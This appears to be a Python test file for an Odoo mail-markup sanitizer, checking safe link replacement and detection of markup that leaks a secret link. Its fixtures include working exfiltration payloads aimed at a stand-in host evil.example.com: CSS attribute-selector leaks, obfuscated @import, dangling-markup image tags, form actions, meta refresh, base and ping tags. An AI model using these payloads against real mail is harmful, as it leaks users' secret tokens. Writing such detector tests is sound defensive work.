"""The link in a mail is the target of a link and is nowhere else, whatever the mail's template contains."""

import time

from odoo.tests import BaseCase, tagged

from ..models.mail_markup import _replace_link, find_unsafe_code, has_complete_tags, has_link

URL = "https://shop.example.com/my/sample"
SECRET = "https://shop.example.com/my/secret"
EVIL = "https://evil.example.com/?"
LINK = f'<a href="{URL}">x</a>'


@tagged("at_install", "-post_install", "once")
class TestMailMarkup(BaseCase):
    def test_the_target_is_replaced_and_all_other_text_stays_as_it_is(self):
        for body in (
            '<!DOCTYPE html><html><body>\n<p>1 < 2 &amp; "3"<br/>  %s</body>',
            '<!--[if mso]><td width=600 STYLE=\'font: "Arial"\'><v:rect href="x" /><![endif]-->%s',
            '<style>@media (width > 9px) {td > p {font: "a"}}</style><textarea>x</textarea>%s',
            "<input disabled value = x><img alt='>'\n/><o:p></o:p><t></t>%s",
        ):
            self.assertTrue(has_complete_tags(body % LINK))
            self.assertFalse(find_unsafe_code(body % LINK))
            self.assertEqual(_replace_link(body % LINK, URL, SECRET), body % LINK.replace(URL, SECRET))

    def test_links_areas_and_buttons_for_outlook_are_replaced(self):
        for tag in ("a", "area", "v:rect", "v:roundrect"):
            for before, after in ((' class="b" download', ""), ("", " style='x'/"), ("\n", ' title="1 > 0"')):
                body = f'<{tag}{before} href="%s"{after}>'
                with self.subTest(body):
                    self.assertTrue(has_link(body % URL, URL))
                    self.assertEqual(_replace_link(body % URL, URL, SECRET), body % SECRET)

    def test_a_query_or_a_fragment_after_the_link_is_kept(self):
        for new_url, rest, expected in (
            (SECRET, "?utm_source=mail&amp;x=1", "?utm_source=mail&amp;x=1"),
            (SECRET, "#top", "#top"),
            (f"{SECRET}?token=1", "?utm_source=mail#top", "&amp;utm_source=mail#top"),
            (f"{SECRET}?token=1", "#top", "#top"),
            (f"{SECRET}?token=1&x=2", "", ""),
        ):
            body = _replace_link(f'<a href="{URL}{rest}">x</a>', URL, new_url)
            self.assertEqual(body, f'<a href="{new_url.replace("&", "&amp;")}{expected}">x</a>')

    def test_another_address_is_not_replaced(self):
        for url in (f"{URL}s", f"{URL}/decline", f"x{URL}", f"{EVIL}{URL}"):
            body = f'<a href="{url}">{URL}</a>'
            self.assertFalse(has_link(body, URL))
            self.assertEqual(_replace_link(body, URL, SECRET), body)

    def test_what_a_client_loads_or_a_form_sends_is_not_replaced(self):
        for body in (
            f'<img src="{URL}"/>',
            f'<link href="{URL}"/>',
            f'<image href="{URL}"/>',
            f'<img alt="x" src="{EVIL}<a href={URL}"/>',
            f'<img title=\'<a href="{URL}"\' src="x"/>',
            f"<style>p {{background: url('{EVIL}{LINK}')}}</style>",
            f"<style></style\v>p {{background: url('{EVIL}{LINK}')}}</style>",
            f"<style></\u017ftyle>p {{background: url('{EVIL}{LINK}')}}</style>",
            f"<STYLE media='x'></styles>p {{background: url('{EVIL}{LINK}')}}",
            f"<!--<textarea>--><style>p {{background: url('{EVIL}</textarea>{LINK}')}}</style>",
            f"<style></style><form action='{EVIL}'><textarea name='x'>{LINK}</textarea><button>x</button></form>",
        ):
            with self.subTest(body):
                self.assertFalse(has_link(body, URL) and has_complete_tags(body))
                if has_complete_tags(body):
                    self.assertEqual(_replace_link(body, URL, SECRET), body)

    def test_a_tag_that_a_client_may_read_on_past_its_end_is_found(self):
        for body in (
            f"<img src='{EVIL}%s'/>",
            f'<img src="{EVIL}%s',
            f"<img src={EVIL}%s",
            f"<img src=`{EVIL}%s`>",
            f"<img x\" src='{EVIL}\" >%s'>",
            f"<img x=\"y\"src='{EVIL}'>%s",
            f"<img/src='{EVIL}'>%s",
            f"<img \xa0=\xa0'>' src='{EVIL}%s'>",
            f"<p>x</p><!--[if mso]><img src='{EVIL}%s'/><![endif]-->",
            f"<!--><img src='{EVIL}-->%s<!--'>-->",
            f"<textarea><img title=\"<!--</textarea><img src='{EVIL}-->\">%s</textarea>",
            f"<svg><style><img src='{EVIL}</style>%s'></svg>",
        ):
            with self.subTest(body):
                self.assertFalse(has_complete_tags(body % LINK))

    def test_a_style_sheet_that_loads_a_file_for_each_beginning_of_the_link_is_found(self):
        for css, found in (
            (f'a[href*="token=a"]{{background:url({EVIL}a)}}', '[href*="token=a"]'),
            (f"td:has(> [ HREF $= 'a' i ]) {{background:url({EVIL}a)}}", "[ HREF $= 'a' i ]"),
            (f"td {{& a[h\\72ef^=x] {{background:url({EVIL}a)}}}}", "[h\\72ef^=x]"),
            (f"a[href/*]*/^='x'] {{background:url({EVIL}a)}}", "[href/*]"),
            (f"a[href\n^='x'] {{background:url({EVIL}a)}}", "[href\n^='x']"),
            (f"a[href='x{{background:url({EVIL}a)}}", "[href='x"),
            (f"@import '{EVIL}'", "@import"),
            (f"@\\69 MPORT '{EVIL}'", "@iMPORT"),
            ("a::after {content: attr(href); font-family: leak}", "attr("),
        ):
            for body in (
                f"<style>{css}</style>{LINK}",
                f"{LINK}<STYLE\nmedia='all'>p {{}}</styles>{css}</STYLE >",
                f"<!--[if mso]><style></style><style>{css}</style><![endif]-->{LINK}",
                f"{LINK}<style>{css}",
            ):
                with self.subTest(body):
                    self.assertTrue(has_complete_tags(body))
                    self.assertEqual(find_unsafe_code(body), found)

    def test_code_that_loads_a_style_sheet_or_sends_the_link_is_found(self):
        for body, found in (
            (f'<link rel="stylesheet" href="{EVIL}"/>', "<link"),
            (f'<BASE href="{EVIL}">', "<BASE"),
            (f'<meta content="0; url={EVIL}" http-equiv="refresh"/>', f'<meta content="0; url={EVIL}" http-equiv'),
            ('<meta http-equiv="Content-Type" http-equiv=refresh>', '<meta http-equiv="Content-Type" http-equiv'),
            ("<svg><style><![CDATA[</style>a[href^=x] {}]]></style></svg>", "<![CDATA["),
            ("<svg><style>a&#91;href^=x] {}</style></svg>", "<svg"),
            (f'<a title="x" ping="{EVIL}" href="{URL}">x</a>', '<a title="x" ping'),
        ):
            with self.subTest(body):
                self.assertTrue(has_complete_tags(body))
                self.assertEqual(find_unsafe_code(body + LINK), found)

    def test_what_mails_commonly_contain_is_allowed(self):
        for body in (
            "<style>a[x-apple-data-detectors] {color: red} [data-ogsc] p {width: 100%\\9}</style>",
            "<style><!--[if (gte mso 9)|(IE)]> p {} <![endif]--></style>",
            '<meta charset="utf-8"/><meta http-equiv="Content-Type" content="text/html; charset=utf-8"/>',
            "<meta http-equiv=X-UA-Compatible content='IE=edge'><meta name='viewport' content='width=1'>",
            "<svg></svg><p title='[a=b] ping=x'>[a=b] @import</p><basefont><a title=' ping=x'>x</a>",
        ):
            with self.subTest(body):
                self.assertEqual(find_unsafe_code(body + LINK), "")

    def test_a_link_that_is_not_displayed_does_not_count(self):
        for body in (
            f"<!--{LINK}-->",
            f"<!-- > {LINK}",
            f"<!--[if mso]>{LINK}<![endif]-->",
            f"<! {LINK}>",
            f"<? {LINK}>",
            f"</ {LINK}>",
            f"</p title='{LINK}'>",
            f"<title>{LINK}</title>",
        ):
            with self.subTest(body):
                self.assertFalse(has_link(body, URL))
                self.assertTrue(has_link(f"{LINK}{body}", URL))
                self.assertEqual(_replace_link(body, URL, SECRET), body.replace(URL, SECRET), "Outlook may display it")
        for before in ("<!-->", "<!--->", "<!---->", "<!--x--!>", "<!--[if !mso]><!-->", "<!DOCTYPE html>", "</p>"):
            with self.subTest(before):
                self.assertTrue(has_link(f"{before}{LINK}<!-- -->", URL))

    def test_a_long_mail_takes_no_longer_than_its_length_requires(self):
        for body in (LINK * 6000, f"<style>{'[' * 300000}", "<!--" * 100000, f"<a{' x' * 100000}>", "<style>" * 40000):
            with self.subTest(body[:20]):
                start = time.process_time()
                has_complete_tags(body)
                find_unsafe_code(body)
                has_link(body, URL)
                _replace_link(body, URL, SECRET)
                self.assertLess(time.process_time() - start, 2)
